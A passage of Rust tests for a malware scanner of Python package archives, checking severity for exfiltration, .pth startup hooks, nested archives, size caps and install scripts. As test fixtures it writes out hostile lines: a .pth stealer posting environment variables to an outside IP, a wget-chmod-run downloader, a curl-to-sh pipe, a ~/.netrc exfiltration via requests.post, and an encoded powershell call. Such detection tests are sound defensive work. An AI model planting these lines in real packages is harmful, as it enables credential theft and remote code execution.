                .max_by_key(|(_, s)| *s)
        };
        let as_init = scan_bytes(
            "memo-1.0.tar.gz",
            &targz(&[("memo-1.0/memo/__init__.py", code)]),
            &Limits::default(),
        )
        .unwrap();
        let as_module = scan_bytes(
            "memo-1.0.tar.gz",
            &targz(&[("memo-1.0/memo/send.py", code)]),
            &Limits::default(),
        )
        .unwrap();
        let in_wheel = scan_bytes(
            "memo-1.0-py3-none-any.whl",
            &zip(&[("memo/send.py", code)]),
            &Limits::default(),
        )
        .unwrap();
        let (_, init_severity) = worst(&as_init).expect("found in the __init__");
        let (path, module_severity) = worst(&as_module).expect("found in the module");
        assert_eq!(
            (init_severity, module_severity),
            (Severity::Critical, Severity::High)
        );
        assert_eq!(path, "memo-1.0/memo/send.py");
        // The wheel's copy: the same judgement, at its own path.
        assert_eq!(
            worst(&in_wheel),
            Some(("memo/send.py".to_string(), module_severity))
        );
    }

    #[test]
    fn a_member_above_the_cap_is_a_gap_and_an_anomaly_never_a_silent_pass() {
        let mut big = b"x = 1\n".repeat(2000);
        big.extend_from_slice(PAYLOAD);
        let archive = targz(&[("p-1.0/setup.py", &big)]);
        let limits = Limits {
            max_member: 4096,
            ..Limits::default()
        };
        let scan = scan_bytes("p-1.0.tar.gz", &archive, &limits).unwrap();
        assert_eq!(scan.gaps.len(), 1, "{:?}", scan.gaps);
        assert!(
            scan.gaps[0].starts_with("p-1.0/setup.py: 11 KiB, above the 4 KiB cap"),
            "{:?}",
            scan.gaps
        );
        assert!(
            rules_of(&scan).contains(&(RuleId::ArchiveAnomaly, Some("p-1.0/setup.py".into()))),
            "{:?}",
            scan.findings
        );
        // Within the default cap the same member is read and the payload found.
        let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
        assert!(scan.gaps.is_empty());
        assert!(
            rules_of(&scan)
                .iter()
                .any(|(r, _)| *r == RuleId::Exfiltration)
        );
    }

    #[test]
    fn corrupt_truncated_and_unrecognised_archives_are_gaps() {
        let archive = targz(&[("p-1.0/setup.py", PAYLOAD)]);
        let truncated = &archive[..archive.len() / 2];
        for (what, bytes) in [
            ("truncated", truncated.to_vec()),
            ("unrecognised", b"not an archive at all".to_vec()),
            ("corrupt zip", b"PK\x03\x04garbage".to_vec()),
        ] {
            let scan = scan_bytes("p-1.0.tar.gz", &bytes, &Limits::default()).unwrap();
            assert!(!scan.gaps.is_empty(), "{what}");
            assert!(scan.incomplete, "{what}");
            assert!(
                rules_of(&scan)
                    .iter()
                    .any(|(r, _)| *r == RuleId::ArchiveAnomaly),
                "{what}"
            );
        }
    }

    #[test]
    fn archives_inside_archives_are_opened_and_an_unreadable_one_is_a_gap() {
        let inner = zip(&[("evil/__init__.py", PAYLOAD)]);
        let outer = targz(&[
            ("p-1.0/setup.py", b"from setuptools import setup\nsetup()\n"),
            ("p-1.0/vendor/evil-1.0-py3-none-any.whl", &inner),
        ]);
        let scan = scan_bytes("p-1.0.tar.gz", &outer, &Limits::default()).unwrap();
        assert!(scan.gaps.is_empty(), "{:?}", scan.gaps);
        let nested = scan
            .findings
            .iter()
            .find(|(m, f)| {
                f.rule == RuleId::Exfiltration
                    && m.as_deref()
                        == Some("p-1.0/vendor/evil-1.0-py3-none-any.whl!/evil/__init__.py")
            })
            .map(|(_, f)| f);
        assert_eq!(
            nested.map(|f| f.severity),
            Some(Severity::Low),
            "{:?}",
            scan.findings
        );
        // Named by a .pth, the inner archive is on the import path: full severity.
        let inner = zip(&[("sitecustomize.py", PAYLOAD)]);
        let outer = zip(&[
            ("evil_support.pth", b"evil_support.zip\n"),
            ("evil_support.zip", &inner),
        ]);
        let scan = scan_bytes("p-1.0-py3-none-any.whl", &outer, &Limits::default()).unwrap();
        let f = scan
            .findings
            .iter()
            .find(|(m, f)| {
                f.rule == RuleId::Exfiltration
                    && m.as_deref() == Some("evil_support.zip!/sitecustomize.py")
            })
            .map(|(_, f)| f.severity);
        assert!(
            f.is_some_and(|s| s >= Severity::High),
            "{:?}",
            scan.findings
        );
        // A fixture that does not read is said, not a gap.
        let cut_fixture = targz(&[("x/run.py", PAYLOAD)]);
        let outer = targz(&[(
            "p-1.0/tests/data/bad.tar.gz",
            &cut_fixture[..cut_fixture.len() / 2],
        )]);
        let scan = scan_bytes("p-1.0.tar.gz", &outer, &Limits::default()).unwrap();
        assert!(scan.gaps.is_empty(), "{:?}", scan.gaps);
        assert!(
            rules_of(&scan)
                .iter()
                .any(|(r, _)| *r == RuleId::ArchiveAnomaly)
        );
        // A nested archive that does not read to the end.
        let inner = targz(&[("x/run.py", PAYLOAD)]);
        let cut = &inner[..inner.len() / 2];
        let outer = targz(&[("p-1.0/data/blob.tar.gz", cut)]);
        let scan = scan_bytes("p-1.0.tar.gz", &outer, &Limits::default()).unwrap();
        assert!(
            scan.gaps
                .iter()
                .any(|g| g.starts_with("p-1.0/data/blob.tar.gz (an archive inside the archive)")),
            "{:?}",
            scan.gaps
        );
        // Nested past the depth limit: not opened, and said so.
        let mut doc = zip(&[("a.py", b"print(1)\n")]);
        for i in 0..=MAX_NESTING {
            doc = zip(&[(&format!("l{i}.zip"), &doc)]);
        }
        let scan = scan_bytes("p-1.0-py3-none-any.whl", &doc, &Limits::default()).unwrap();
        assert!(
            scan.gaps.iter().any(|g| g.contains("nested more than")),
            "{:?}",
            scan.gaps
        );
    }

    fn pth_severities(files: &[(&str, &[u8])]) -> Vec<(String, Severity)> {
        let scan = scan_bytes("p-1.0-py3-none-any.whl", &zip(files), &Limits::default()).unwrap();
        let mut v: Vec<(String, Severity)> = scan
            .findings
            .iter()
            .filter(|(_, f)| f.rule == RuleId::PthStartupHook)
            .map(|(m, f)| (m.clone().unwrap_or_default(), f.severity))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn startup_files_are_judged_by_what_their_code_does_and_where_they_are() {
        // coverage's idiom: a literal exec that imports the distribution's own module.
        let own = br#"import os, sys;exec('if os.getenv("COVERAGE_PROCESS_START"):\n import cov\n cov.process_startup()')"#;
        assert_eq!(
            pth_severities(&[
                ("a1_cov.pth", own),
                ("cov/__init__.py", b"def process_startup():\n    pass\n")
            ]),
            vec![("a1_cov.pth".into(), Severity::Low)]
        );
        // The same idiom collecting the environment and sending it: critical.
        let stealer = br#"import os;exec('import json, urllib.request\nurllib.request.urlopen("http://203.0.113.7/c", data=json.dumps(dict(os.environ)).encode())')"#;
        let got = pth_severities(&[("init.pth", stealer)]);
        assert_eq!(got, vec![("init.pth".into(), Severity::Critical)]);
        // Importing a module the distribution does not ship: high.
        assert_eq!(
            pth_severities(&[("x.pth", b"import elsewhere_hook\n")]),
            vec![("x.pth".into(), Severity::High)]
        );
        // pytest-cov's idiom: a switch, its own module, a message on failure.
        let switch = br#"import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write("failed: {0!r}".format(dict((k, v) for k, v in os.environ.items() if k.startswith(\'COV\')), exc))\n')"#;
        assert_eq!(
            pth_severities(&[
                ("cov.pth", switch),
                ("cov/embed.py", b"def init():\n    pass\n")
            ]),
            vec![("cov.pth".into(), Severity::Low)]
        );
        // Running anything else (a shell command) is not quiet.
        let shell = pth_severities(&[("x.pth", b"import os; os.system('echo hi')\n")]);
        assert!(shell.iter().all(|(_, s)| *s >= Severity::High), "{shell:?}");
        // Under tests/ it is never installed as a startup hook.
        assert_eq!(
            pth_severities(&[("tests/data/x.pth", b"import elsewhere_hook\n")]),
            vec![("tests/data/x.pth".into(), Severity::Low)]
        );
    }

    #[test]
    fn words_in_comments_are_not_code() {
        let rules = rules::rules().unwrap();
        let commented = b"import os\n# requests.post(url, data=open(os.path.expanduser('~/.netrc')).read())\nx = 1\n";
        assert!(
            analyze::analyze(rules, "p/pkg/__init__.py", commented, analyze::Role::Init)
                .iter()
                .all(|f| f.severity < Severity::Medium)
        );
        let real = b"import os, requests\nrequests.post(url, data=open(os.path.expanduser('~/.netrc')).read())  # send\n";
        assert!(
            analyze::analyze(rules, "p/pkg/__init__.py", real, analyze::Role::Init)
                .iter()
                .any(|f| f.rule == RuleId::Exfiltration)
        );
    }

    #[test]
    fn scripts_nothing_names_do_not_run_on_install() {
        let script: &[u8] =
            b"#!/bin/sh\nwget -q https://203.0.113.7/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n";
        let top = |setup: &[u8]| {
            let archive = targz(&[("p-1.0/setup.py", setup), ("p-1.0/ci/install.sh", script)]);
            let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
            scan.findings
                .iter()
                .filter(|(m, _)| m.as_deref() == Some("p-1.0/ci/install.sh"))
                .map(|(_, f)| f.severity)
                .max()
        };
        let quiet = top(b"from setuptools import setup\nsetup()\n");
        // A script at the top of the sdist is a script too.
        let archive = targz(&[(
            "p-1.0/build-docs.sh",
            b"#!/bin/sh\ncurl -LsSf https://x.example/install.sh | sh\n".as_slice(),
        )]);
        let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
        let worst = scan.findings.iter().map(|(_, f)| f.severity).max();
        assert_eq!(worst, Some(Severity::Medium), "{:?}", scan.findings);
        assert!(quiet.is_some_and(|s| s <= Severity::Medium), "{quiet:?}");
        let named = top(b"import subprocess\nsubprocess.call(['sh', 'ci/install.sh'])\n");
        assert!(named.is_some_and(|s| s >= Severity::High), "{named:?}");
    }

    #[test]
    fn a_function_another_file_calls_on_import_runs_unasked() {
        let core: &[u8] = b"import subprocess\ndef launch():\n    _run()\ndef _run():\n    subprocess.run('powershell -enc SQBFAFgA', shell=True)\n";
        let worst = |init: &[u8]| {
            let archive = targz(&[("p-1.0/p/__init__.py", init), ("p-1.0/p/core.py", core)]);
            let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
            scan.findings
                .iter()
                .filter(|(m, _)| m.as_deref() == Some("p-1.0/p/core.py"))
                .map(|(_, f)| f.severity)
                .max()
        };
        // Nobody calls it: it runs only if a user asks.
        assert_eq!(worst(b"from .core import launch\n"), Some(Severity::Medium));
        // The package's __init__ calls it on import.
        assert_eq!(
            worst(b"from .core import launch\nlaunch()\n"),
            Some(Severity::High)
        );
        // A function of the same name in another module is another function.
        assert_eq!(
            worst(b"from .other import launch\nlaunch()\n"),
            Some(Severity::Medium)
        );
    }
}
